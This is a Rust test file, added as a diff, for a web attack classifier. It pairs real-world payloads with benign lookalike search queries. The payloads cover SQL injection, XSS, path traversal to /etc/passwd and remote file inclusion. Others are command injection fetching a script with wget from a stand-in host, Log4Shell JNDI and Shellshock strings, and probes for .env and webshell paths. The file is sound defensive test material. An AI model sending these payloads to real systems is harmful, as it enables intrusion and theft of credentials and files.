@@ -1,0 +1,122 @@
+//! Table-driven checks: payloads seen in real attack traffic (sqlmap, Nikto, nuclei
+//! templates, public Log4Shell/Shellshock write-ups) against benign requests that
+//! share their words (search terms such as "select chairs", "drop earrings").
+
+use super::*;
+
+fn kind(uri: &str) -> Option<AttackKind> {
+    WebClassifier::new()
+        .classify(b"GET", uri.as_bytes(), b"Mozilla/5.0", b"")
+        .map(|h| h.kind)
+}
+
+#[test]
+fn attacks_are_recognised() {
+    use AttackKind::*;
+    let cases: &[(&str, AttackKind)] = &[
+        ("/products?id=1%27%20OR%20%271%27%3D%271", Sqli),
+        ("/products?id=1'", Sqli),
+        ("/products?id=1%2527", Sqli),
+        ("/p?id=-1%20UNION%20ALL%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--", Sqli),
+        ("/p?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)", Sqli),
+        ("/p?id=1';WAITFOR%20DELAY%20'0:0:5'--", Sqli),
+        ("/p?id=1%20OR%201%3D1--", Sqli),
+        ("/p?id=admin'--", Sqli),
+        ("/p?id=1;DROP%20TABLE%20users--", Sqli),
+        ("/p?id=1%20ORDER%20BY%2010--", Sqli),
+        ("/p?id=1%20AND%203810=CAST((CHR(113)||CHR(112))%20AS%20NUMERIC)", Sqli),
+        ("/p?id=x%27%20or%20benchmark(10000000,MD5(1))%23", Sqli),
+        ("/p?id=1)%20AND%201=1%20AND%20(1=1", Sqli),
+        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", Xss),
+        ("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Xss),
+        ("/r?next=javascript:alert(document.cookie)", Xss),
+        ("/download?file=../../../../etc/passwd", PathTraversal),
+        ("/download?file=..%2f..%2f..%2fetc%2fpasswd", PathTraversal),
+        ("/download?file=..%252f..%252fetc%252fpasswd", PathTraversal),
+        ("/static/..%c0%af..%c0%afetc/passwd", PathTraversal),
+        ("/x?f=..\\..\\..\\windows\\win.ini", PathTraversal),
+        ("/page?include=php://filter/convert.base64-encode/resource=index.php", FileInclusion),
+        ("/index.php?page=http://evil.example/shell.txt?", FileInclusion),
+        ("/cgi?host=127.0.0.1;cat%20/etc/passwd", CommandInjection),
+        ("/ping?ip=1.1.1.1|id", CommandInjection),
+        ("/x?c=$(wget%20http://x.example/a.sh)", CommandInjection),
+        ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5", CommandInjection),
+        ("/?x=${jndi:ldap://x.example/a}", Jndi),
+        ("/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", Jndi),
+        ("/.env", SensitiveFile),
+        ("/api/.env", SensitiveFile),
+        ("/.env.production", SensitiveFile),
+        ("/.git/config", SensitiveFile),
+        ("/wp-config.php.bak", SensitiveFile),
+        ("/backup.sql", SensitiveFile),
+        ("/backup.tar.gz", SensitiveFile),
+        ("/www.zip", SensitiveFile),
+        ("/phpmyadmin/index.php", AdminProbe),
+        ("/wp-includes/wlwmanifest.xml", AdminProbe),
+        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", AdminProbe),
+        ("/?XDEBUG_SESSION_START=phpstorm", AdminProbe),
+        ("/uploads/shell.php", Webshell),
+        ("/wp-content/uploads/2024/03/x.php", Webshell),
+        ("/c99.php", Webshell),
+    ];
+    let c = WebClassifier::new();
+    for (uri, want) in cases {
+        let got = c.classify(b"GET", uri.as_bytes(), b"Mozilla/5.0", b"").map(|h| h.kind);
+        assert_eq!(got, Some(*want), "{uri}");
+    }
+}
+
+#[test]
+fn benign_requests_are_not_attacks() {
+    for uri in [
+        "/",
+        "/search?q=select+chairs",
+        "/search?q=union+jack+flag",
+        "/search?q=drop+earrings",
+        "/search?q=1+or+2+person+tent",
+        "/search?q=order+by+phone",
+        "/search?q=where+to+buy+linen",
+        "/search?q=o%27reilly+books",
+        "/category/shoes?page=3&cat=5",
+        "/products/1234-amber-anchor?utm_source=google&utm_medium=cpc",
+        "/api/v1/items?category=home&page=2&limit=24",
+        "/blog/%E3%81%93%E3%82%93%E3%81%AB%E3%81%A1%E3%81%AF",
+        "/static/js/main.1a2b3c4d.js",
+        "/images/products/1001-0-640.webp",
+        "/.well-known/security.txt",
+        "/robots.txt",
+        "/envelope-designs",
+        "/gitlab-tips",
+        "/blog/how-to-backup-your-site",
+        "/docs/select-from-the-menu",
+        "/uploads/photo.jpg",
+        "/wp-login.php",
+        "/admin/",
+    ] {
+        assert_eq!(kind(uri), None, "{uri}");
+    }
+}
+
+#[test]
+fn scanners_and_header_attacks() {
+    let c = WebClassifier::new();
+    let s = c.classify(b"GET", b"/", b"sqlmap/1.7.2#stable (https://sqlmap.org)", b"").unwrap();
+    assert_eq!(s.kind, AttackKind::Scanner);
+    let n = c.classify(b"GET", b"/", b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", b"").unwrap();
+    assert_eq!(n.kind, AttackKind::Scanner);
+    let j = c.classify(b"GET", b"/", b"${jndi:ldap://198.51.100.1:1389/a}", b"").unwrap();
+    assert_eq!(j.kind, AttackKind::Jndi);
+    let sh = c.classify(b"GET", b"/cgi-bin/status", b"() { :; }; /bin/bash -c 'id'", b"").unwrap();
+    assert_eq!(sh.kind, AttackKind::CommandInjection);
+    assert!(c.classify(b"GET", b"/", b"python-requests/2.31.0", b"").is_none());
+    assert!(c.classify(b"GET", b"/", b"Mozilla/5.0 (compatible; Googlebot/2.1)", b"").is_none());
+}
+
+proptest::proptest! {
+    #[test]
+    fn never_panics(uri in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300),
+                    ua in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..100)) {
+        let c = WebClassifier::new();
+        let _ = c.classify(b"POST", &uri, &ua, &ua);
+    }
+}
